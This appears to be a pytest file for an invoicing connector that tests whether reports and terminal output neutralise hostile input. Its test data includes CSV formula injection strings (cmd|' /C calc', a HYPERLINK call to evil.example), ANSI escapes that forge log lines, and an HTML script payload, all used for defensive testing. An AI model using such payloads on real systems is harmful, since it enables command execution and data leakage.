"""Output a customer name (or an invoice number, or a note) can forge.

Before issue 12: seven hostile customer names went through to CSV as formulas; provider names,
invoice numbers and note text carried raw ANSI (colours, clear screen, window title) and CR/LF
into the report, the plan and the terminal, forging lines.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from conftest import Kravsync
from hostile_support import TODAY, contact, pull_fiken, tenant

from connector.clock import Clock
from connector.cycle.validate import check_tenant
from connector.models import Invoice, InvoiceStatus
from connector.render.report import render, render_csv
from connector.render.textsafe import FORMULA_START
from connector.render.views import report_data
from connector.store import SqliteStore

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klikk her")',
    "=cmd|' /C calc'!A0",
    "+47 22 00 00 00",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
ANSI = "Acme\x1b[2J\x1b[31m AS\x1b]0;owned\x07\r\n  ERROR  forged.line  all paid"


def rows_with(names: list[str]) -> list[dict]:  # type: ignore[type-arg]
    return [
        {"tenant": "fjord", "provider": "fiken", "customer_id": str(n), "customer_number": name,
         "customer_name": name, "code": "email.missing", "field": "email", "severity": "warning",
         "message": f"no e-mail for {name}", "blocks": []}  # fmt: skip
        for n, name in enumerate(names)
    ]


def test_csv_cells_that_would_be_formulas_are_neutralised() -> None:
    text = render_csv(rows_with(FORMULAS))
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    names = [r["customer_name"] for r in csv.DictReader(io.StringIO(text))]
    assert len(names) == len(FORMULAS) and all(n.startswith("'") for n in names)
    assert "'=HYPERLINK(" in text and "'+47 22 00 00 00" in text


def test_hostile_names_from_a_provider_reach_the_csv_report_neutralised(tmp_path: Path) -> None:
    clock = Clock.starting_at(TODAY)
    store = SqliteStore(str(tmp_path / "s.db"), clock)
    assert pull_fiken(store, clock, [[contact(n + 1, name=f) for n, f in enumerate(FORMULAS)]]).ok
    check_tenant(tenant(), store, today=TODAY)
    rows, summary = report_data([tenant()], store, TODAY)
    text = render("csv", rows, summary, generated_at=clock.now())
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert cells and not [c for c in cells if c.startswith(FORMULA_START)]


@pytest.mark.parametrize("fmt", ["table", "csv"])
def test_report_table_and_csv_show_control_characters_escaped(fmt: str) -> None:
    text = render(fmt, rows_with([ANSI]), {}, generated_at=datetime(2026, 11, 23, tzinfo=UTC))
    assert "\x1b" not in text and "\x07" not in text and "\r\n  ERROR" not in text
    assert "\\x1b[2J" in text and "\\r\\n" in text
    if fmt == "table":
        assert not any(line.lstrip().startswith("ERROR  forged.line") for line in text.splitlines())


def test_html_is_still_escaped() -> None:
    text = render("html", rows_with(["<script>alert(1)</script>"]), {},
                  generated_at=datetime(2026, 11, 23, tzinfo=UTC))  # fmt: skip
    assert "<script>" not in text and "&lt;script&gt;" in text


def test_json_escapes_control_characters() -> None:
    text = render("json", rows_with([ANSI]), {}, generated_at=datetime(2026, 11, 23, tzinfo=UTC))
    assert "\x1b" not in text and json.loads(text)["findings"][0]["customer_name"] == ANSI


def test_plan_and_status_lines_cannot_be_forged_by_an_invoice_number_or_a_note(
    kravsync: Kravsync, config: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert kravsync("sync") == 0
    capsys.readouterr()
    # An invoice stored before names were normalised (an older version): raw ANSI and CR/LF.
    store = SqliteStore(str(config.parent / "state.db"), Clock.starting_at(TODAY))
    forged = "66\x1b[2J\r\n  customer 1: reminder, 1 invoice(s), 0.00 NOK"
    store.upsert_invoices("fjord", [Invoice(
        provider="fiken", provider_id="x66", number=forged, customer_id="nobody",
        issue_date=date(2026, 9, 1), due_date=date(2026, 9, 15), currency="NOK",
        gross=Decimal(100), outstanding=Decimal(100), status=InvoiceStatus.OPEN,
    )])  # fmt: skip
    store.close()
    note = "promised\r\n    invoice 1: ALL PAID \x1b[32mOK\x1b[0m"
    assert kravsync("note", "fjord", "x66", "--dispute", "--text", note) == 0
    capsys.readouterr()
    assert kravsync("plan") == 0
    plan = capsys.readouterr().out
    assert "\x1b" not in plan and "\r" not in plan
    assert "66\\x1b[2J\\r\\n  customer 1" in plan
    assert "promised\\r\\n    invoice 1: ALL PAID \\x1b[32mOK" in plan
    assert not any(line.startswith("    invoice 1: ALL PAID") for line in plan.splitlines())
    assert kravsync("status") == 0
    assert "\x1b" not in capsys.readouterr().out
